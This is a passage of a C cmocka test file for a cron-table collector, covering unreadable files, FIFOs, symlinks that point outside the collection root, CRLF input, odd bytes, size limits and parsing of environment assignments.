	        .rootfd = f->rootfd, .problem = fx_on_problem, .userdata = &res->ps};
	const struct obj_rec *rec;

#define CHECK(c)                                                                                   \
	do {                                                                                       \
		if (!(c))                                                                          \
			return __LINE__;                                                           \
	} while (0)
	CHECK(res && obj_set_new(KIND_CRON, &res->set) == 0);
	CHECK(collect_cron(&ctx, res->set) == 0);
	CHECK(obj_set_count(res->set) == 3);
	rec = find(res, "/etc/cron.d/ok");
	CHECK(rec && rec->attrs == TABLE && rec->val[CA_JOBS].n == 22);
	rec = find(res, "/etc/cron.d/secret");
	CHECK(rec && rec->attrs == 0);
	rec = find(res, "/etc/cron.daily/private");
	CHECK(rec && rec->attrs == (ATTR_BIT(CA_SCHEDULE) | ATTR_BIT(CA_MODE)));
	CHECK(rec->val[CA_MODE].n == 4 && memcmp(rec->val[CA_MODE].p, "0700", 4) == 0);
	CHECK(res->ps.n == 3);
	CHECK(strcmp(res->ps.p[0].path, "/etc/cron.d/secret") == 0 && res->ps.p[0].line == 0 &&
	      res->ps.p[0].err == -EACCES);
	CHECK(strcmp(res->ps.p[1].path, "/var/spool/cron/crontabs") == 0 &&
	      res->ps.p[1].line == 0 && res->ps.p[1].err == -EACCES);
	CHECK(strcmp(res->ps.p[2].path, "/etc/cron.daily/private") == 0 && res->ps.p[2].line == 0 &&
	      res->ps.p[2].err == -EACCES);
#undef CHECK
	result_free(res);
	return 0;
}

static void test_unreadable(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	char p[4096];
	int status;
	pid_t pid;

	/* Too large to read (sparse), a directory where a file belongs, a link loop. */
	full_path(f->root, "/etc/crontab", p, sizeof(p));
	put_file(f, "/etc/crontab", "");
	assert_int_equal(truncate(p, (off_t)ROOTFS_MAX_FILE + 1), 0);
	put_dir(f, "/etc/anacrontab");
	put_link(f, "/etc/cron.d/loop", "/etc/cron.d/loop");
	put_file(f, "/etc/cron.d/ok", "* * * * * root /bin/ok\n");
	res = collect(f);
	assert_ids(res, LIST("/etc/anacrontab", "/etc/cron.d/ok", "/etc/crontab"));
	assert_attrs(get(res, "/etc/crontab"), 0);
	assert_attrs(get(res, "/etc/anacrontab"), 0);
	assert_list(get(res, "/etc/cron.d/ok"), CA_JOBS, LIST("* * * * * root /bin/ok"));
	assert_problem_count(res, 3);
	assert_problem(res, 0, "/etc/crontab", 0, -EFBIG);
	assert_problem(res, 1, "/etc/cron.d/loop", 0, -ELOOP);
	assert_problem(res, 2, "/etc/anacrontab", 0, -EISDIR);
	result_free(res);

	/* Permission denied: checked as nobody when running as root. */
	remove_file(f, "/etc/crontab");
	remove_file(f, "/etc/cron.d/loop");
	full_path(f->root, "/etc/anacrontab", p, sizeof(p));
	assert_int_equal(rmdir(p), 0);
	write_at(f->root, "/etc/cron.d/secret", "* * * * * root /bin/s\n", 22, 0600);
	put_script(f, "/etc/cron.daily/private", "#!/bin/sh\n", 0700);
	put_file(f, "/var/spool/cron/crontabs/alice", "* * * * * /bin/a\n");
	set_mode(f, "/var/spool/cron/crontabs", 0700);
	if (geteuid() != 0) {
		assert_int_equal(check_unreadable(f), 0);
		set_mode(f, "/var/spool/cron/crontabs", 0755);
		return;
	}
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		int line;

		if (setgroups(0, NULL) < 0 || setresgid(65534, 65534, 65534) < 0 ||
		    setresuid(65534, 65534, 65534) < 0)
			_exit(2);
		line = check_unreadable(f);
		if (line)
			fprintf(stderr, "# check as nobody failed at test_cron.c:%d\n", line);
		_exit(line ? 1 : 0);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	if (WEXITSTATUS(status) != 0)
		fail_msg("check as nobody failed (status %d)", WEXITSTATUS(status));
	set_mode(f, "/var/spool/cron/crontabs", 0755);
}

static void alarm_handler(int sig)
{
	fail_msg("collecting hung (a FIFO was opened for reading?)");
}

static void test_fifo(void **state)
{
	struct fixture *f = *state;
	struct result *res;

	signal(SIGALRM, alarm_handler);
	alarm(20);
	put_fifo(f, "/etc/crontab");
	put_fifo(f, "/etc/cron.d/fifo");
	put_file(f, "/etc/cron.d/real", "0 * * * * root /bin/real\n");
	put_fifo(f, "/var/spool/cron/crontabs/carol");
	put_fifo(f, "/etc/cron.daily/fifo");
	put_link(f, "/etc/cron.daily/to-fifo", "/etc/cron.d/fifo");
	put_fifo(f, "/etc/anacrontab");
	res = collect(f);
	alarm(0);
	/* A FIFO in a directory is not a table or script; where a file is named, it is a problem.
	 */
	assert_ids(res, LIST("/etc/anacrontab", "/etc/cron.d/real", "/etc/crontab"));
	assert_attrs(get(res, "/etc/crontab"), 0);
	assert_attrs(get(res, "/etc/anacrontab"), 0);
	assert_list(get(res, "/etc/cron.d/real"), CA_JOBS, LIST("0 * * * * root /bin/real"));
	assert_problem_count(res, 2);
	assert_problem(res, 0, "/etc/crontab", 0, -EINVAL);
	assert_problem(res, 1, "/etc/anacrontab", 0, -EINVAL);
	result_free(res);
}

static void test_symlink_outside(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	char target[256], rel[256], escape[512], h[72];
	const struct obj_rec *rec;

	/* The same absolute path exists outside the root and inside it. */
	write_at(f->outside, "/crontab", "* * * * * root /OUTSIDE\n", 24, 0644);
	write_at(f->outside, "/script", "OUTSIDE", 7, 0755);
	write_at(f->outside, "/spool/mallory", "* * * * * /OUTSIDE\n", 19, 0644);
	snprintf(target, sizeof(target), "%s/crontab", f->outside);
	snprintf(rel, sizeof(rel), "%s/crontab", f->outside);
	put_file(f, rel, "* * * * * root /inside\n");
	snprintf(rel, sizeof(rel), "%s/script", f->outside);
	put_script(f, rel, "inside", 0700);

	put_link(f, "/etc/crontab", target);
	put_link(f, "/etc/cron.d/absolute", target);
	snprintf(escape, sizeof(escape), "../../../../../../../..%s", target);
	put_link(f, "/etc/cron.d/relative", escape);
	put_link(f, "/etc/cron.d/dangling", "/nonexistent/crontab");
	snprintf(target, sizeof(target), "%s/script", f->outside);
	put_link(f, "/etc/cron.daily/script", target);
	/* A spool directory that is a link to one outside. */
	snprintf(target, sizeof(target), "%s/spool", f->outside);
	put_dir(f, "/var/spool/cron");
	put_link(f, "/var/spool/cron/crontabs", target);

	res = collect(f);
	assert_ids(res, LIST("/etc/cron.d/absolute", "/etc/cron.d/relative",
	                     "/etc/cron.daily/script", "/etc/crontab"));
	assert_list(get(res, "/etc/crontab"), CA_JOBS, LIST("* * * * * root /inside"));
	assert_list(get(res, "/etc/cron.d/absolute"), CA_JOBS, LIST("* * * * * root /inside"));
	assert_list(get(res, "/etc/cron.d/relative"), CA_JOBS, LIST("* * * * * root /inside"));
	rec = get(res, "/etc/cron.daily/script");
	sha256_text("inside", 6, h);
	assert_attr(rec, CA_HASH, h);
	assert_attr(rec, CA_MODE, "0700");
	assert_problem_count(res, 0);
	result_free(res);
}

static void test_crlf(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;
	static const char *const ids[] = {"/etc/crontab", "/etc/cron.d/x",
	                                  "/var/spool/cron/crontabs/u", "/etc/anacrontab"};
	static const char lf_user[] = "MAILTO=\"me\"\n*/5 * * * * /bin/u --x\n@reboot /bin/b";
	static const char lf_ana[] = "PATH=/bin\n1 5 d /bin/d \\\n --more\n@weekly 1 w /bin/w\n";
	char crlf[4096];

	/* The same text with "\r\n", and a last line without a newline. */
#define TO_CRLF(src)                                                                               \
	do {                                                                                       \
		size_t o = 0;                                                                      \
		for (const char *s = (src); *s; s++) {                                             \
			if (*s == '\n')                                                            \
				crlf[o++] = '\r';                                                  \
			crlf[o++] = *s;                                                            \
		}                                                                                  \
		crlf[o] = '\0';                                                                    \
	} while (0)

	put_file(f, "/etc/crontab", debian_crontab);
	put_file(f, "/etc/cron.d/x", "A=1\n0 0 * * * root /bin/x\n");
	put_file(f, "/var/spool/cron/crontabs/u", lf_user);
	put_file(f, "/etc/anacrontab", lf_ana);
	a = collect(f);
	TO_CRLF(debian_crontab);
	put_file(f, "/etc/crontab", crlf);
	TO_CRLF("A=1\n0 0 * * * root /bin/x\n");
	put_file(f, "/etc/cron.d/x", crlf);
	TO_CRLF(lf_user);
	put_file(f, "/var/spool/cron/crontabs/u", crlf);
	TO_CRLF(lf_ana);
	put_file(f, "/etc/anacrontab", crlf);
	b = collect(f);
#undef TO_CRLF
	assert_problem_count(a, 0);
	assert_problem_count(b, 0);
	assert_int_equal(obj_set_count(b->set), 4);
	for (size_t i = 0; i < ARRAY_SIZE(ids); i++) {
		assert_int_equal(diff(a, b, ids[i]), 0);
		assert_int_equal(get(a, ids[i])->attrs, get(b, ids[i])->attrs);
	}
	assert_list(get(b, "/var/spool/cron/crontabs/u"), CA_JOBS,
	            LIST("*/5 * * * * /bin/u --x", "@reboot /bin/b"));
	assert_list(get(b, "/var/spool/cron/crontabs/u"), CA_ENV, LIST("MAILTO=me"));
	assert_list(get(b, "/etc/anacrontab"), CA_JOBS,
	            LIST("1 5 d /bin/d   --more", "@weekly 1 w /bin/w"));
	result_free(b);
	result_free(a);
}

static void test_weird_bytes(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	static const char name[] = "/etc/cron.d/we\nird \xff\x01name";
	static const char text[] = "* * * * * root /bin/caf\xc3\xa9 \x01\xff\x7f\n"
	                           "* * * * * root /bin/nul\0hidden\n"
	                           "V\xfe=\"\xe2\x80\xae\"\n"
	                           "0 0 * * * r\xc3\xb6t\t\t/bin/x\t\xe2\x80\xae\n";
	const struct obj_rec *rec;

	write_at(f->root, name, text, sizeof(text) - 1, 0644);
	res = collect(f);
	assert_ids(res, LIST(name));
	rec = get(res, name);
	assert_list(rec, CA_JOBS,
	            LIST("* * * * * root /bin/caf\xc3\xa9 \x01\xff\x7f",
	                 "0 0 * * * r\xc3\xb6t /bin/x\t\xe2\x80\xae"));
	assert_list(rec, CA_ENV, LIST("V\xfe=\xe2\x80\xae"));
	assert_problem_count(res, 1);
	assert_problem(res, 0, name, 2, -EBADMSG);
	result_free(res);
}

static void test_limits(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	size_t cap = (size_t)(CRON_MAX_ELEMENTS + 3) * 40 + 4096, used = 0;
	char *text = malloc(cap);
	size_t pos = 0, count = 0;
	struct bytes el;

	assert_non_null(text);
	/* Too many jobs: the first CRON_MAX_ELEMENTS are kept, the limit reported once. */
	for (unsigned i = 0; i < CRON_MAX_ELEMENTS + 3; i++)
		used += (size_t)snprintf(text + used, cap - used, "* * * * * root /bin/job%u\n", i);
	put_file(f, "/etc/crontab", text);
	/* More malformed lines than are reported. */
	used = 0;
	for (unsigned i = 0; i < CRON_MAX_PROBLEMS + 50; i++)
		used += (size_t)snprintf(text + used, cap - used, "bad line %u\n", i);
	used += (size_t)snprintf(text + used, cap - used, "@daily root /bin/still-read\n");
	put_file(f, "/etc/cron.d/noisy", text);
	free(text);

	res = collect(f);
	while (obj_list_next(get(res, "/etc/crontab")->val[CA_JOBS], &pos, &el))
		count++;
	assert_int_equal(count, CRON_MAX_ELEMENTS);
	assert_true(obj_list_has(get(res, "/etc/crontab")->val[CA_JOBS],
	                         BYTES_STR("* * * * * root /bin/job0")));
	assert_false(obj_list_has(get(res, "/etc/crontab")->val[CA_JOBS],
	                          BYTES_STR("* * * * * root /bin/job10000")));
	assert_list(get(res, "/etc/cron.d/noisy"), CA_JOBS, LIST("@daily root /bin/still-read"));
	assert_problem_count(res, 1 + CRON_MAX_PROBLEMS + 1);
	assert_problem(res, 0, "/etc/crontab", CRON_MAX_ELEMENTS + 1, -E2BIG);
	for (unsigned i = 0; i < CRON_MAX_PROBLEMS; i++)
		assert_problem(res, 1 + i, "/etc/cron.d/noisy", i + 1, -EBADMSG);
	assert_problem(res, 1 + CRON_MAX_PROBLEMS, "/etc/cron.d/noisy", CRON_MAX_PROBLEMS + 1,
	               -EBADMSG);
	result_free(res);
}

static void test_too_many_entries(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	char rel[64];

	put_dir(f, "/etc/cron.hourly");
	for (unsigned i = 0; i < CRON_MAX_ENTRIES + 2; i++) {
		char p[4096];
		int fd;

		snprintf(rel, sizeof(rel), "/etc/cron.hourly/s%05u", i);
		full_path(f->root, rel, p, sizeof(p));
		fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
		assert_true(fd >= 0);
		close(fd);
	}
	res = collect(f);
	assert_int_equal(obj_set_count(res->set), CRON_MAX_ENTRIES);
	assert_non_null(find(res, "/etc/cron.hourly/s00000"));
	assert_null(find(res, "/etc/cron.hourly/s10000"));
	assert_problem_count(res, 1);
	assert_problem(res, 0, "/etc/cron.hourly", 0, -E2BIG);
	result_free(res);
}

/* The buffer-level parser, on the assignment forms cron accepts. */
static void parse_one(enum cron_format format, const char *text, const char *const *jobs,
                      const char *const *env, size_t problems)
{
	struct result *res = calloc(1, sizeof(*res));
	struct collect_ctx ctx = {.rootfd = -1, .problem = fx_on_problem, .userdata = &res->ps};
	size_t budget = 1u << 20;

	assert_non_null(res);
	assert_int_equal(obj_set_new(KIND_CRON, &res->set), 0);
	assert_int_equal(obj_begin(res->set, "/t", 2), 0);
	assert_int_equal(cron_parse(&ctx, "/t", format, text, strlen(text), &budget, res->set), 0);
	assert_int_equal(obj_end(res->set), 0);
	assert_list(get(res, "/t"), CA_JOBS, jobs);
	assert_list(get(res, "/t"), CA_ENV, env);
	assert_problem_count(res, problems);
	result_free(res);
}

static void test_parse_env(void **state)
{
	parse_one(CRON_USER, "A=1\nB = 2\n C\t=\t3 \nD=\nE=\"\"\nF='x y'\nG=\"q'q\"  \n", EMPTY,
	          LIST("A=1", "B=2", "C=3", "D=", "E=", "F=x y", "G=q'q"), 0);
	/* quoted names; '=' inside a value; a value that only opens a quote is kept as is */
	parse_one(CRON_USER, "\"N M\"=v\n'Q' = \"w\"\nURL=http://x/?a=b\nH=a\"b\n", EMPTY,
	          LIST("N M=v", "Q=w", "URL=http://x/?a=b", "H=a\"b"), 0);
	/* not assignments, hence malformed jobs */
	parse_one(CRON_USER, "=x\n\"\"=x\nX=\"open\n\"A=B\"=c\nX Y=z\n", EMPTY, EMPTY, 5);
	/* a job whose command holds '=' is a job */
	parse_one(CRON_SYSTEM, "0 0 * * * root A=1 /bin/x\n", LIST("0 0 * * * root A=1 /bin/x"),
	          EMPTY, 0);
	/* only anacron continues lines */
	parse_one(CRON_USER, "0 0 * * * /bin/x \\\n--y\n", LIST("0 0 * * * /bin/x \\"), EMPTY, 1);
	/* an empty table */
	parse_one(CRON_ANACRON, "", EMPTY, EMPTY, 0);
	/* a continuation at the end of the file */
	parse_one(CRON_ANACRON, "1 1 a /bin/a \\\n", LIST("1 1 a /bin/a"), EMPTY, 0);
	parse_one(CRON_ANACRON, "1 1 a /bin/a \\", LIST("1 1 a /bin/a \\"), EMPTY, 0);
}

int main(void)
{
#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
	const struct CMUnitTest tests[] = {
	        T(test_empty_root),
	        T(test_crontab_format),
	        T(test_job_added_removed_changed),
	        T(test_path_hijack),
	        T(test_crond_file_added),
	        T(test_user_crontab_added),
	        T(test_anacrontab),
	        T(test_run_parts_hash),
	        T(test_run_parts_mode),
	        T(test_run_parts_added),
	        T(test_reboot),
	        T(test_malformed),
	        T(test_unreadable),
	        T(test_fifo),
	        T(test_symlink_outside),
	        T(test_crlf),
	        T(test_weird_bytes),
	        T(test_limits),
	        T(test_too_many_entries),
	        T(test_parse_env),
	};
#undef T

	return cmocka_run_group_tests(tests, NULL, NULL);
}
